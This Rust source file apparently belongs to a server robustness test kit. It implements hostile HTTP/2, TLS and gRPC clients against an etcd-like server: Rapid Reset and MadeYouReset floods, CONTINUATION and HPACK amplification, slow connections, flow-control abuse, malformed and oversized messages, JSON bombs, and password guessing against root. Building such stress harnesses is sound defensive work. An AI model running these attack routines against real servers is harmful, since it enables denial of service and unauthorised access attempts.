//! Clients that mean harm.
//!
//! An attack goes on for a bounded while and ends by itself. What the server does to it is no failure of the attack: it is
//! cut, reset, refused or left alone. Whoever calls looks at the server, and at those that it should have served meanwhile.

use std::io::{self, Read, Write};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use watchful_testkit::SplitMix64;

use crate::http2::{
    ACK, CONTINUATION, DATA, END_STREAM, HEADERS, Http2, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    connect, field, grpc, head, header, text,
};

/// Whom to attack, and how much.
#[derive(Clone, Debug)]
pub struct Target {
    /// Where it serves without TLS.
    pub plain: SocketAddr,
    /// Where TLS is spoken, if it is.
    pub tls: Option<SocketAddr>,
    /// A token of a user who may read and write the keys that begin with `m/`, and no others.
    pub token: Option<String>,
    /// How long to go on.
    pub time: Duration,
    /// How many connections, calls or watches to have at once, where it is about many.
    pub many: usize,
}

/// One way to do harm.
#[derive(Debug)]
pub struct Attack {
    /// What it is called, where it is told of.
    pub name: &'static str,
    /// Does it, for as long as the target says.
    pub run: fn(&Target, &mut SplitMix64) -> Done,
}

/// The attacks that the server lets have much memory, by what it promises for each connection.
pub const UNREAD: &str = "answers that nobody reads";
/// Another.
pub const ASKED_AFTERWARDS: &str = "calls begun first and asked afterwards";
/// And another.
pub const UNENDED: &str = "messages that are never ended";

/// How often an attack did what it does.
pub type Done = u64;

/// Every one that there is.
pub const ALL: &[Attack] = &[
    Attack { name: "connections that say nothing", run: silent },
    Attack { name: "first words a byte at a time", run: slow_words },
    Attack { name: "handshakes a byte at a time", run: slow_handshakes },
    Attack { name: "rubbish in place of a protocol", run: rubbish },
    Attack { name: "calls begun and reset", run: rapid_reset },
    Attack { name: "calls that the server has to reset", run: made_to_reset },
    Attack { name: "headers without an end", run: continuations },
    Attack { name: "headers that unfold", run: unfolding_headers },
    Attack { name: "settings and pings without an end", run: settings_and_pings },
    Attack { name: "frames that make no sense", run: bad_frames },
    Attack { name: "calls that are never ended", run: open_calls },
    Attack { name: UNENDED, run: unended_messages },
    Attack { name: UNREAD, run: unread_answers },
    Attack { name: ASKED_AFTERWARDS, run: asked_afterwards },
    Attack { name: "watches, and no end of them", run: watches },
    Attack { name: "messages that are no messages", run: malformed },
    Attack { name: "messages larger than may be", run: giant },
    Attack { name: "JSON that is deep, long or cut short", run: json },
    Attack { name: "tokens and passwords that are wrong", run: wrong_secrets },
];

/// As often as it can, until the time is up. What fails is tried anew.
fn again(target: &Target, mut act: impl FnMut() -> io::Result<u64>) -> Done {
    let (until, mut done) = (Instant::now() + target.time, 0);
    while Instant::now() < until {
        match act() {
            Ok(more) => done += more,
            Err(_) => std::thread::sleep(Duration::from_millis(1)),
        }
    }
    done
}

/// On one connection after the other, 10,000 times without reading, unless the server ends it before.
fn bursts(target: &Target, mut act: impl FnMut(&mut Http2)) -> Done {
    again(target, || {
        let mut http2 = Http2::connect(target.plain)?;
        let mut burst = || {
            (0..100).for_each(|_| act(&mut http2));
            http2.flush().is_ok()
        };
        Ok((0..100).take_while(|_| burst()).map(|_| 100).sum())
    })
}

/// Many at once, each given a turn again and again until the time is up, and replaced where it is gone.
fn crowd<T>(
    target: &Target,
    mut make: impl FnMut() -> io::Result<T>,
    mut turn: impl FnMut(&mut T) -> io::Result<()>,
) -> Done {
    let (until, mut crowd, mut done) = (Instant::now() + target.time, Vec::new(), 0);
    while Instant::now() < until {
        while crowd.len() < target.many && Instant::now() < until {
            match make() {
                Ok(one) => crowd.push(one),
                Err(_) => break,
            }
            done += 1;
        }
        crowd.retain_mut(|one| turn(one).is_ok());
        std::thread::sleep(Duration::from_millis(5));
    }
    done
}

fn silent(target: &Target, _: &mut SplitMix64) -> Done {
    crowd(target, || connect(target.plain), |_| Ok(()))
}

/// Half of them speak HTTP/2, half HTTP/1.
fn slow_words(target: &Target, random: &mut SplitMix64) -> Done {
    const HEAD: &[u8] = b"POST /v3/kv/range HTTP/1.1\r\nHost: here\r\nX-Long: ";
    let make = || Ok((connect(target.plain)?, [PREFACE, HEAD][below(random, 2)], 0));
    crowd(target, make, |(stream, words, at)| {
        let byte = words.get(*at).copied().unwrap_or(b'x');
        *at += 1;
        // The last of the preface is never said.
        if *words == PREFACE && *at >= PREFACE.len() { Ok(()) } else { stream.write_all(&[byte]) }
    })
}

fn slow_handshakes(target: &Target, _: &mut SplitMix64) -> Done {
    // The beginning of a `ClientHello` of 512 bytes.
    const HELLO: &[u8] = &[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3];
    let Some(address) = target.tls else { return 0 };
    crowd(
        target,
        || Ok((connect(address)?, 0)),
        |(stream, at)| {
            stream.write_all(&[HELLO.get(*at).copied().unwrap_or(7)])?;
            *at += 1;
            Ok(())
        },
    )
}

fn rubbish(target: &Target, random: &mut SplitMix64) -> Done {
    again(target, || {
        let address = if below(random, 2) == 0 { target.plain } else { target.tls.unwrap_or(target.plain) };
        let mut stream = connect(address)?;
        let begins: [&[u8]; 4] = [b"", &PREFACE[..16], b"GET / HTTP/1.1\r\n", b"\x16\x03\x01"];
        stream.write_all(begins[below(random, begins.len())])?;
        stream.write_all(&bytes(random, 2_000))?;
        Ok(1)
    })
}

/// Every key that begins with `m/`.
fn own_keys() -> Vec<u8> {
    [field(1, b"m/"), field(2, b"m0")].concat()
}

const RANGE: &str = "/etcdserverpb.KV/Range";
const PUT: &str = "/etcdserverpb.KV/Put";
const WATCH: &str = "/etcdserverpb.Watch/Watch";
const RANGE_STREAM: &str = "/etcdserverpb.KV/RangeStream";
const OBSERVE: &str = "/v3electionpb.Election/Observe";

/// The attack that is called "rapid reset" (CVE-2023-44487).
fn rapid_reset(target: &Target, _: &mut SplitMix64) -> Done {
    bursts(target, |http2| {
        let stream = http2.ask(RANGE, target.token.as_deref(), &own_keys());
        http2.frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
    })
}

/// The attack that is called "made you reset" (CVE-2025-8671): each call is broken by a frame that makes the server reset
/// it, and what the server says to that is not read.
fn made_to_reset(target: &Target, random: &mut SplitMix64) -> Done {
    bursts(target, |http2| {
        let stream = http2.call(WATCH, target.token.as_deref(), 0);
        match below(random, 3) {
            // A window that grows by nothing, or beyond all bounds.
            0 => http2.frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
            1 => http2.frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()),
            // More of a request that is over.
            _ => {
                http2.frame(DATA, END_STREAM, stream, &grpc(b""));
                http2.frame(DATA, END_STREAM, stream, &grpc(b""));
            }
        }
    })
}

fn continuations(target: &Target, random: &mut SplitMix64) -> Done {
    again(target, || {
        let mut http2 = Http2::connect(target.plain)?;
        let mut block = head(RANGE, None);
        http2.frame(HEADERS, 0, 1, &block);
        block.clear();
        if below(random, 2) == 0 {
            header(&mut block, "x-more", &[b'x'; 8_000]);
        }
        let mut done = 0;
        for _ in 0..2_000 {
            http2.frame(CONTINUATION, 0, 1, &block);
            http2.flush()?;
            done += 1;
        }
        Ok(done)
    })
}

/// A long header that is kept in the table, and named again and again by one byte.
fn unfolding_headers(target: &Target, _: &mut SplitMix64) -> Done {
    again(target, || {
        let mut http2 = Http2::connect(target.plain)?;
        let mut block = head(RANGE, None);
        // With the index that it gets: the first after the 61 that are always there.
        block.push(0x40);
        text(&mut block, b"x-kept");
        text(&mut block, &[b'x'; 3_900]);
        block.extend(std::iter::repeat_n(0x80 | 62, 16_000 - block.len()));
        for _ in 0..20 {
            http2.call_by(&block, END_STREAM);
            http2.flush()?;
        }
        Ok(20)
    })
}

fn settings_and_pings(target: &Target, random: &mut SplitMix64) -> Done {
    bursts(target, |http2| match below(random, 4) {
        0 => http2.frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]),
        1 => http2.frame(PING, 0, 0, &[7; 8]),
        2 => http2.frame(SETTINGS, ACK, 0, &[]),
        _ => http2.frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
    })
}

fn bad_frames(target: &Target, random: &mut SplitMix64) -> Done {
    again(target, || {
        let mut http2 = Http2::connect(target.plain)?;
        http2.call(RANGE, None, 0);
        for _ in 0..20 {
            let payload = bytes(random, 40);
            let (kind, flags) = (small(random, 12), small(random, 255));
            http2.frame(kind, flags, small(random, 5).into(), &payload);
        }
        http2.flush()?;
        http2.goaway();
        Ok(20)
    })
}

/// As many calls as may be, none of which is ever ended.
fn open_calls(target: &Target, random: &mut SplitMix64) -> Done {
    again(target, || {
        let mut http2 = Http2::connect(target.plain)?;
        let mut done = 0;
        for at in 0..target.many {
            let stream = http2.call([WATCH, PUT][below(random, 2)], target.token.as_deref(), 0);
            // A message that is begun, and never whole.
            http2.frame(DATA, 0, stream, &[0, 0, 0, 1, 0, 7]);
            if at % 100 == 99 {
                http2.flush()?;
                http2.drain()?;
            }
            done += 1;
        }
        std::thread::sleep(Duration::from_millis(20));
        Ok(done)
    })
}

/// As many large messages as may be, none of which is ever whole.
fn unended_messages(target: &Target, _: &mut SplitMix64) -> Done {
    again(target, || {
        let mut http2 = Http2::connect_settled(target.plain)?;
        let mut done = 0;
        for _ in 0..target.many {
            let stream = http2.call(PUT, target.token.as_deref(), 0);
            http2.frame(DATA, 0, stream, &[&[0][..], &1_500_000_u32.to_be_bytes()].concat());
            for _ in 0..16 {
                http2.frame(DATA, 0, stream, &[b'x'; 16_000]);
            }
            // Then there is room for more.
            http2.ping()?;
            done += 1;
        }
        Ok(done)
    })
}

/// A connection with large values, and a window that would take all answers.
fn wide(target: &Target) -> io::Result<Http2> {
    let mut http2 = Http2::connect(target.plain)?;
    http2.frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 255, 255, 255]);
    http2.frame(WINDOW_UPDATE, 0, 0, &0x7f00_0000_u32.to_be_bytes());
    for at in 0..20 {
        put_large(&mut http2, target, at)?;
    }
    Ok(http2)
}

/// The headers of all calls are sent before the first of them asks for anything, and no answer is read: lists, whole and in
/// parts, who leads, and what a put replaces.
fn asked_afterwards(target: &Target, _: &mut SplitMix64) -> Done {
    again(target, || {
        let mut http2 = wide(target)?;
        // A put that says that the value stays, and asks what was there.
        let put_again = [field(1, b"m/0"), vec![4 << 3, 1, 5 << 3, 1]].concat();
        let asked =
            [(RANGE, own_keys()), (RANGE_STREAM, own_keys()), (OBSERVE, field(1, b"m")), (PUT, put_again)];
        let asked: Vec<_> = asked.iter().cycle().take(target.many).collect();
        let begin = |(path, _): &&(&str, Vec<u8>)| http2.call(path, target.token.as_deref(), 0);
        let calls: Vec<_> = asked.iter().map(begin).collect();
        http2.flush()?;
        for (stream, (_, message)) in calls.iter().zip(asked) {
            http2.frame(DATA, END_STREAM, *stream, &grpc(message));
        }
        http2.flush()?;
        // So long there is somebody who does not read: whoever looks for a sign of the server's would have to.
        std::thread::sleep(Duration::from_millis(100));
        Ok(calls.len() as u64)
    })
}

/// Large answers are asked for and none is read.
fn unread_answers(target: &Target, _: &mut SplitMix64) -> Done {
    let make = || {
        let mut http2 = wide(target)?;
        let create = field(1, &[own_keys(), vec![3 << 3, 1]].concat());
        let stream = http2.call(WATCH, target.token.as_deref(), 0);
        http2.frame(DATA, 0, stream, &grpc(&create));
        http2.flush()?;
        Ok(http2)
    };
    let few = Target { many: deaf_connections(target), ..target.clone() };
    crowd(&few, make, |http2| {
        for _ in 0..20 {
            http2.ask(RANGE, target.token.as_deref(), &own_keys());
        }
        // A server that reads no more has done what it should: the connection stays, and so does what waits for it.
        let _ = http2.flush();
        http2.out.clear();
        Ok(())
    })
}

/// How many ask and do not read. A hundredth of the crowd is enough, and asks for more than a gigabyte.
#[must_use]
pub fn deaf_connections(target: &Target) -> usize {
    target.many.div_ceil(100)
}

fn put_large(http2: &mut Http2, target: &Target, at: usize) -> io::Result<()> {
    let put = [field(1, format!("m/{at}").as_bytes()), field(2, &[b'v'; 60_000])].concat();
    let stream = http2.call(PUT, target.token.as_deref(), 0);
    for piece in grpc(&put).chunks(16_000) {
        http2.frame(DATA, 0, stream, piece);
    }
    http2.frame(DATA, END_STREAM, stream, &[]);
    http2.flush()
}

/// Many watches on each of a few streams, and those that are refused among them.
fn watches(target: &Target, random: &mut SplitMix64) -> Done {
    again(target, || {
        let mut http2 = Http2::connect(target.plain)?;
        let stream = http2.call(WATCH, target.token.as_deref(), 0);
        let mut done = 0;
        for at in 0..target.many {
            let keys = if below(random, 8) == 0 { field(1, b"good/") } else { own_keys() };
            http2.frame(DATA, 0, stream, &grpc(&field(1, &keys)));
            done += 1;
            if at % 100 == 99 {
                http2.flush()?;
                http2.drain()?;
                // Room for as much as was taken out.
                http2.frame(WINDOW_UPDATE, 0, 0, &16_000_u32.to_be_bytes());
                http2.frame(WINDOW_UPDATE, 0, stream, &16_000_u32.to_be_bytes());
            }
        }
        http2.flush()?;
        Ok(done)
    })
}

const PATHS: [&str; 16] = [
    RANGE,
    PUT,
    "/etcdserverpb.KV/DeleteRange",
    "/etcdserverpb.KV/Txn",
    "/etcdserverpb.KV/Compact",
    WATCH,
    "/etcdserverpb.Lease/LeaseRevoke",
    "/etcdserverpb.Lease/LeaseKeepAlive",
    "/etcdserverpb.Auth/Authenticate",
    "/etcdserverpb.Auth/UserAdd",
    "/etcdserverpb.Maintenance/Snapshot",
    RANGE_STREAM,
    OBSERVE,
    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
    "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
    "/no.such/Method",
];

fn malformed(target: &Target, random: &mut SplitMix64) -> Done {
    again(target, || {
        let mut http2 = Http2::connect(target.plain)?;
        for _ in 0..40 {
            let path = PATHS[below(random, PATHS.len())];
            let message = match below(random, 3) {
                0 => bytes(random, 200),
                // Messages in messages, as a transaction may have them, a hundred deep.
                1 => (0..100).fold(vec![], |inner, _| field(2, &field(4, &inner))),
                // A field that says that it is longer than all.
                _ => vec![1 << 3 | 2, 0xff, 0xff, 0xff, 0xff, 0x7f, b'k'],
            };
            let token = target.token.as_deref().filter(|_| below(random, 2) == 0);
            http2.ask(path, token, &message);
        }
        http2.flush()?;
        http2.drain()?;
        Ok(40)
    })
}

fn giant(target: &Target, random: &mut SplitMix64) -> Done {
    again(target, || {
        let mut http2 = Http2::connect_settled(target.plain)?;
        let stream = http2.call(PUT, target.token.as_deref(), 0);
        // Marked as compressed, every third time.
        let compressed = u8::from(below(random, 3) == 0);
        let announced: [u32; 3] = [u32::MAX, 64 << 20, 2_097_152];
        let len = announced[below(random, announced.len())].to_be_bytes();
        http2.frame(DATA, 0, stream, &[&[compressed][..], &len].concat());
        let mut done = 0;
        for _ in 0..200 {
            http2.frame(DATA, 0, stream, &[b'x'; 16_384]);
            http2.flush()?;
            http2.drain()?;
            done += 1;
        }
        Ok(done)
    })
}

fn json(target: &Target, random: &mut SplitMix64) -> Done {
    again(target, || {
        let mut stream = connect(target.plain)?;
        let body = match below(random, 4) {
            0 => b"[".repeat(100_000),
            1 => br#"{"success":[{"requestTxn":"#.repeat(20_000),
            2 => [&br#"{"key":""#[..], &b"QUFB".repeat(100_000)].concat(),
            _ => bytes(random, 5_000),
        };
        let path = ["kv/txn", "kv/range", "watch", "auth/authenticate", "lease/keepalive"][below(random, 5)];
        // What is announced is now and then more than what comes.
        let len = body.len() + below(random, 2) * 10;
        write!(stream, "POST /v3/{path} HTTP/1.1\r\nHost: here\r\nContent-Length: {len}\r\n\r\n")?;
        stream.write_all(&body)?;
        let _ = stream.read(&mut [0; 512]);
        Ok(1)
    })
}

fn wrong_secrets(target: &Target, random: &mut SplitMix64) -> Done {
    again(target, || {
        let mut http2 = Http2::connect(target.plain)?;
        for _ in 0..20 {
            let token = format!("{:x}.{}", random.next_u64(), below(random, 100));
            http2.ask(PUT, Some(&token), &[field(1, b"good/x"), field(2, b"forged")].concat());
            http2.ask(PUT, None, &[field(1, b"good/x"), field(2, b"forged")].concat());
            http2.ask(PUT, target.token.as_deref(), &[field(1, b"good/x"), field(2, b"forged")].concat());
        }
        // Whoever goes before they are answered takes them back.
        http2.answered(60)?;
        for _ in 0..20 {
            let login = [field(1, b"root"), field(2, &bytes(random, 60))].concat();
            http2.ask("/etcdserverpb.Auth/Authenticate", None, &login);
        }
        http2.flush()?;
        http2.drain()?;
        Ok(80)
    })
}

fn below(random: &mut SplitMix64, bound: usize) -> usize {
    usize::try_from(random.below(bound as u64)).expect("it is below one")
}

fn small(random: &mut SplitMix64, bound: u8) -> u8 {
    u8::try_from(random.below(bound.into())).expect("it is below one")
}

fn bytes(random: &mut SplitMix64, len_max: usize) -> Vec<u8> {
    (0..below(random, len_max)).map(|_| small(random, 255)).collect()
}
